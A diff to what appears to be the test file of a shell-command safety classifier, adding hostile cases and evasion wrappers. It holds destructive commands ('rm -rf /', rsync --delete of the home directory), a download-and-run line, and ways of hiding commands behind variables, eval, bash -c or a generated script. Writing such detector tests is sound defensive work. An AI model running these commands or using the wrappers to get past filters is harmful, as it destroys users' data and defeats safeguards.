@@ -180,6 +180,8 @@ HOSTILE: list[tuple[str, str]] = [
     ("echo a > x.sh; echo 'rm -rf /' >> x.sh; sh x.sh", "hardline"),
     ("curl -o x.sh https://x.example; bash x.sh", "dangerous"),
     ("rsync -a --delete empty/ ~/", "hardline"),
+    ("c='rm -rf /'; echo \"$c\" | sh", "hardline"),
+    ("c='rm -rf /'; bash <<< \"$c\"", "hardline"),
     ("ls 3<>f", "dangerous"),  # a construct the grammar does not read
     ("echo 'unclosed", "dangerous"),
     ("rm -rf / 'unclosed", "hardline"),
@@ -392,6 +394,10 @@ _CONTEXTS = [
     lambda c: f"x=$( {c} )",
     lambda c: f"cat <({c})",
     lambda c: f"{c} & wait",
+    lambda c: f'c={shlex.quote(c)}; echo "$c" | sh',
+    lambda c: f'c={shlex.quote(c)}; bash -c "$c"',
+    lambda c: f'c={shlex.quote(c)}; eval "$c"',
+    lambda c: f"printf '%s\\n' {shlex.quote(c)} > run.sh; sh run.sh",
 ]
 
 
